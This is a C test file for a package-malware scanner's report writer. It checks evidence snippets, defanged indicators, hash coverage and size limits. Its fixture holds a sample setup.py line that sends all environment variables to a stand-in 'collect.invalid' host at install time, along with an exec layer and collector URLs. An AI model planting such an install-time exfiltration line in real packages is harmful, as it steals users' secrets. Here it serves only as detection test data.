/* SPDX-License-Identifier: Apache-2.0 */
#include "engine/verdict/report.h"

#include "base/doc.h"
#include "base/utf8.h"
#include "hand.h"

static const char source[] = "import os\n\nimport urllib.request\n    "
                             "urllib.request.urlopen('http://collect.invalid/x', os.environ)\n";

typedef struct scene {
    hand h;
    tw_input input;
    tw_behaviours behaviours;
    tw_evidence evidence;
    tw_report_in in;
    tw_buf out;
    tw_doc doc;
} scene;

/* setup.py holds an environment read that flows to a request, and a layer with one more use. */
static void scene_init(scene *s)
{
    memset(s, 0, sizeof *s);
    hand_init(&s->h);
    uint32_t m = hand_member(&s->h, "pkg-1/setup.py");
    uint32_t u = hand_unit(&s->h, m, TW_NONE, TW_TRIGGER_INSTALL);
    hand_layer(&s->h, u, "base64 > zlib", "line one\nexec(stuff)\n", 11, true);
    uint32_t l = hand_unit(&s->h, m, u, TW_TRIGGER_INSTALL);
    uint32_t env = hand_use(&s->h, "cred.env-all", u, 87, TW_TRIGGER_INSTALL, TW_CONF_LITERAL);
    uint32_t http = hand_use(&s->h, "net.http", u, 38, TW_TRIGGER_INSTALL, TW_CONF_LITERAL);
    hand_value(&s->h, http, TW_ARGROLE_URL, "http://collect.invalid/x");
    uint32_t code = hand_use(&s->h, "code.eval", l, 9, TW_TRIGGER_INSTALL, TW_CONF_FOLDED);
    hand_value(&s->h, code, TW_ARGROLE_URL, "https://a.collector.dev/y");
    hand_value(&s->h, code, TW_ARGROLE_HOST, "93.184.216.34");
    hand_flow(&s->h, env, http, 0, TW_CONF_FOLDED);
    TW_PUSH(s->h.a, s->behaviours,
            ((tw_behaviour){.id = TW_S("theft.env"),
                            .says = TW_S("At install it sends secrets"),
                            .check = TW_S("why?"),
                            .kind = TW_S("malware"),
                            .attack = {TW_S("T1552")},
                            .n_attack = 1,
                            .ceiling = TW_LEVEL_MALICIOUS,
                            .level = TW_LEVEL_MALICIOUS,
                            .confidence = TW_CONF_FOLDED,
                            .reason = TW_S("setup.py"),
                            .evidence = {env, http, code},
                            .n_evidence = 3,
                            .n_flows = 1,
                            .layers = {l},
                            .n_layers = 1,
                            .n_matches = 1}));
    s->input = (tw_input){
        .bytes = TW_S("bytes"), .artifact = TW_S("dir/pkg-1.tar.gz"), .has_index = true, .index = 7};
    s->in = (tw_report_in){.input = &s->input,
                           .rules = tw_rules_builtin(s->h.a),
                           .format = "tar.gz",
                           .package = &s->h.package,
                           .members = s->h.members,
                           .n_members = s->h.package.n_members,
                           .join = &s->h.j,
                           .behaviours = &s->behaviours,
                           .findings = &s->h.findings,
                           .coverage = &s->h.coverage,
                           .evidence = &s->evidence,
                           .limits = &s->h.limits};
}

static void write_report(scene *s)
{
    tw_verdict v;
    tw_diag d;
    tw_evidence_collect(&s->evidence, s->h.a, &s->h.j, &s->behaviours);
    CHECK(s->behaviours.n == 0 || tw_evidence_wants(&s->evidence, &s->h.j, 0));
    tw_evidence_fill(&s->evidence, &s->h.j, 0, tw_str_c(source));
    tw_verdict_make(&s->in, s->h.a, &v);
    tw_report_write(&s->in, &v, &s->out);
    CHECK_INT(tw_json_read(s->h.a, tw_buf_str(&s->out), NULL, &s->doc, &d), TW_OK);
    CHECK_INT(s->doc.n_duplicates, 0);
}

static void scene_done(scene *s)
{
    tw_buf_free(&s->out);
    hand_done(&s->h);
}

static const tw_node *at(const scene *s, const char *path) /* "behaviours/0/evidence/1/line" */
{
    const tw_node *n = &s->doc.nodes[0];
    tw_str rest = tw_str_c(path), part;
    while (n && tw_str_split(&rest, '/', &part)) {
        uint32_t id = tw_node_id(&s->doc, n), i = tw_node_first(&s->doc, id);
        uint64_t k;
        if (!tw_str_u64(part, &k))
            n = tw_node_get(&s->doc, id, part);
        else {
            for (; k && i != tw_node_end(&s->doc, id); k--) i = s->doc.nodes[i].next;
            n = i == tw_node_end(&s->doc, id) ? NULL : &s->doc.nodes[i];
        }
    }
    return n;
}

static void is(const scene *s, const char *path, const char *want)
{
    const tw_node *n = at(s, path);
    if (!n) fprintf(stderr, "nothing at %s\n", path);
    CHECK(n != NULL);
    if (n) CHECK_STR(n->text, tw_str_c(want));
}

static void is_null(const scene *s, const char *path)
{
    const tw_node *n = at(s, path);
    CHECK(n && n->kind == TW_NODE_NULL);
}

TEST(keys_stand_in_the_order_of_the_schema)
{
    static const char *const keys[] = {
        "schema",         "artifact",   "index",      "subject",       "sha256",       "purl",
        "ecosystem",      "name",       "version",    "versions",      "verdict",      "kind",
        "recommendation", "score",      "score_kind", "complete",      "summary",      "triggers",
        "behaviours",     "findings",   "signals",    "history",       "capabilities", "flows",
        "layers",         "indicators", "coverage",   "contributions", "errors",       "stats",
        "report_sha256"};
    scene s;
    scene_init(&s);
    write_report(&s);
    size_t k = 0;
    for (uint32_t i = tw_node_first(&s.doc, 0); i != tw_node_end(&s.doc, 0); i = s.doc.nodes[i].next, k++) {
        CHECK(k < TW_COUNT(keys));
        if (k < TW_COUNT(keys)) CHECK_STR(s.doc.nodes[i].key, tw_str_c(keys[k]));
    }
    CHECK_INT(k, TW_COUNT(keys));
    scene_done(&s);
}

TEST(evidence_has_line_column_and_snippet)
{
    scene s;
    scene_init(&s);
    write_report(&s);
    is(&s, "verdict", "malicious");
    is(&s, "behaviours/0/id", "theft.env");
    is(&s, "behaviours/0/evidence/0/line", "3"); /* the layer's place in its parent */
    is(&s, "behaviours/0/evidence/1/line", "4");
    is(&s, "behaviours/0/evidence/1/col", "55");
    is(&s, "behaviours/0/evidence/1/snippet",
       "urllib.request.urlopen('http://collect.invalid/x', os.environ)");
    is(&s, "behaviours/0/evidence/1/member", "pkg-1/setup.py");
    is_null(&s, "behaviours/0/evidence/1/layer");
    is(&s, "behaviours/0/evidence/3/layer", "1");
    is(&s, "behaviours/0/evidence/3/line", "2");
    is(&s, "behaviours/0/evidence/3/snippet", "exec(stuff)");
    is(&s, "flows/0/from", "cred.env-all");
    is(&s, "flows/0/path/1/line", "4");
    is(&s, "layers/0/recipe/1", "zlib");
    is(&s, "layers/0/parent/off", "11");
    is(&s, "capabilities/2/out/0", "0");
    scene_done(&s);
}

TEST(indicators_are_defanged_and_leave_reserved_hosts_out)
{
    scene s;
    scene_init(&s);
    write_report(&s);
    is(&s, "indicators/urls/0/shown", "hxxps://a.collector[.]dev/y");
    is(&s, "indicators/urls/0/raw_b64", "aHR0cHM6Ly9hLmNvbGxlY3Rvci5kZXYveQ==");
    is(&s, "indicators/hosts/0/shown", "a.collector[.]dev");
    is(&s, "indicators/ips/0/shown", "93.184.216[.]34");
    CHECK(at(&s, "indicators/urls/1") == NULL);
    scene_done(&s);
}

/* report_sha256 is over the object without artifact, index and itself. */
TEST(the_hash_covers_all_but_the_name)
{
    scene s;
    scene_init(&s);
    write_report(&s);
    tw_str json = tw_buf_str(&s.out);
    size_t name = tw_str_find(json, TW_S(",\"artifact\":")),
           subject = tw_str_find(json, TW_S(",\"subject\":")),
           tail = tw_str_find(json, TW_S(",\"report_sha256\":"));
    tw_buf rest = TW_BUF_INIT;
    tw_buf_puts(&rest, tw_str_sub(json, 0, name));
    tw_buf_puts(&rest, tw_str_sub(json, subject, tail));
    tw_buf_putc(&rest, '}');
    tw_digest d = tw_sha256_of(tw_buf_str(&rest));
    char hex[65];
    tw_digest_hex(&d, hex);
    is(&s, "report_sha256", hex);
    tw_buf_free(&rest);
    s.input.artifact = TW_S("elsewhere");
    s.input.has_index = false;
    write_report(&s);
    is(&s, "report_sha256", hex);
    CHECK(at(&s, "index") == NULL);
    is(&s, "artifact", "elsewhere");
    s.input.bytes = TW_S("other bytes");
    write_report(&s);
    CHECK(!tw_str_eq(at(&s, "report_sha256")->text, tw_str_c(hex)));
    scene_done(&s);
}

TEST(lists_are_capped_and_say_how_many_are_missing)
{
    scene s;
    scene_init(&s);
    for (int i = 0; i < 60; i++) tw_finding_add(&s.h.findings, TW_FIND_ZIP_GAP, 0, (uint64_t)i, "gap %d", i);
    write_report(&s);
    is(&s, "findings/19/id", "zip.gap");
    is(&s, "findings/20/more", "40");
    is(&s, "findings/0/says", "bytes between records belong to no record: gap 0");
    CHECK(at(&s, "findings/21") == NULL);
    scene_done(&s);
}

TEST(a_report_never_outgrows_its_limit)
{
    scene s;
    scene_init(&s);
    tw_buf name = TW_BUF_INIT;
    for (int i = 0; i < 4090; i++) tw_buf_putc(&name, '\x01');
    s.h.members[0].path = tw_buf_str(&name);
    s.input.artifact = tw_buf_str(&name);
    for (uint32_t i = 0; i < 300; i++) {
        uint32_t u = hand_use(&s.h, "fs.read", 0, i, (tw_trigger)(i % TW_TRIGGER_MAX), TW_CONF_LITERAL);
        hand_flow(&s.h, u, 1, 0, TW_CONF_FOLDED);
        tw_behaviour b = s.behaviours.v[0];
        b.says = b.check = b.reason = tw_buf_str(&name);
        TW_PUSH(s.h.a, s.behaviours, b);
        tw_coverage_gap(&s.h.coverage, 0, (tw_gap_reason)(i % TW_GAP_MAX), i, 1);
    }
    write_report(&s);
    CHECK(s.out.n <= TW_REPORT_MAX);
    CHECK(s.out.n > TW_REPORT_MAX / 20);
    is(&s, "verdict", "malicious");
    tw_buf_free(&name);
    scene_done(&s);
}

TEST(hostile_bytes_stay_valid_utf8)
{
    scene s;
    scene_init(&s);
    s.h.members[0].path = TW_S("a\xff\xc3(\"\\\n.py");
    s.input.artifact = TW_S("\xf0\x9f\x98");
    write_report(&s);
    CHECK(tw_utf8_valid(tw_buf_str(&s.out)));
    CHECK(tw_str_chr(tw_buf_str(&s.out), '\n') == TW_NPOS);
    scene_done(&s);
}

TEST(nothing_matched_needs_no_second_reading)
{
    scene s;
    scene_init(&s);
    s.behaviours.n = 0;
    tw_evidence_collect(&s.evidence, s.h.a, &s.h.j, &s.behaviours);
    CHECK(!tw_evidence_wants(&s.evidence, &s.h.j, 0));
    write_report(&s);
    is(&s, "verdict", "clear");
    is_null(&s, "kind");
    is_null(&s, "capabilities/0/places/0/line");
    scene_done(&s);
}

TEST(long_lines_are_shown_around_the_place)
{
    scene s;
    scene_init(&s);
    tw_buf text = TW_BUF_INIT;
    for (int i = 0; i < 3000; i++) tw_buf_puts(&text, TW_S("aé"));
    tw_buf_puts(&text, TW_S("HERE"));
    for (int i = 0; i < 3000; i++) tw_buf_puts(&text, TW_S("bé"));
    s.h.j.uses.v[0].place.off = 9000;
    tw_evidence_collect(&s.evidence, s.h.a, &s.h.j, &s.behaviours);
    tw_evidence_fill(&s.evidence, &s.h.j, 0, tw_buf_str(&text));
    const tw_shot *shot = tw_evidence_find(&s.evidence, s.h.j.uses.v[0].place);
    CHECK(shot && shot->snippet.n <= TW_SNIPPET_MAX && shot->snippet.n > 100);
    CHECK(shot && tw_utf8_valid(shot->snippet) && tw_str_find(shot->snippet, TW_S("HERE")) != TW_NPOS);
    tw_buf_free(&text);
    scene_done(&s);
}

TEST(a_failure_is_a_report_too)
{
    tw_arena *a = tw_arena_new(0);
    tw_input input = {.artifact = TW_S("x.whl"), .has_index = true, .index = 3};
    tw_report_error e = {.code = "worker-died",
                         .member = TW_NO_MEMBER,
                         .off = UINT64_MAX,
                         .says = TW_S("The worker died on this artifact"),
                         .retryable = true};
    tw_digest none = {{0}};
    scene s = {.out = TW_BUF_INIT};
    tw_diag d;
    tw_report_failed(&input, &none, tw_rules_builtin(a), &e, &s.out);
    CHECK_INT(tw_json_read(a, tw_buf_str(&s.out), NULL, &s.doc, &d), TW_OK);
    is(&s, "verdict", "unreviewable");
    is(&s, "summary", "The worker died on this artifact.");
    is(&s, "errors/0/code", "worker-died");
    is_null(&s, "errors/0/member");
    is_null(&s, "sha256");
    CHECK(!at(&s, "complete")->truth && at(&s, "errors/0/retryable")->truth);
    tw_buf_free(&s.out);
    tw_arena_free(a);
}

TESTS_MAIN()
